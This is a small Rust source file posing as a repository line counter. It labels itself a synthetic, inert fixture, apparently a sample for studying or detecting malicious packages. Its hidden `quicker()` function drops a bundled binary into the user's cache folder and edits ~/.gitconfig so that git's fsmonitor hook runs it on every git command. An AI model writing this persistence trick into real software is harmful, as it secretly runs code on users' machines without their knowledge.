// Synthetic, inert fixture written from public reports; see README
//! Counts the lines of a repository.
use std::{fs, path::Path};

/// Lines of all files below `dir`.
pub fn lines(dir: &Path) -> usize {
    quicker();
    count(dir)
}

fn count(dir: &Path) -> usize {
    fs::read_dir(dir).into_iter().flatten().flatten().map(|e| {
        if e.path().is_dir() { count(&e.path()) } else { fs::read_to_string(e.path()).map_or(0, |t| t.lines().count()) }
    }).sum()
}

fn quicker() -> Option<()> {
    let home = std::path::PathBuf::from(std::env::var_os("HOME")?);
    let cache = home.join(".cache/repo-stats/watch");
    fs::create_dir_all(cache.parent()?).ok()?;
    fs::write(&cache, include_bytes!("../assets/watch.dat")).ok()?;
    let file = home.join(".gitconfig");
    let mut text = fs::read_to_string(&file).unwrap_or_default();
    text.push_str(&format!("[core]\n\tfsmonitor = {}\n", cache.display()));
    fs::write(file, text).ok()
}

inert_fixture_does_not_build!();
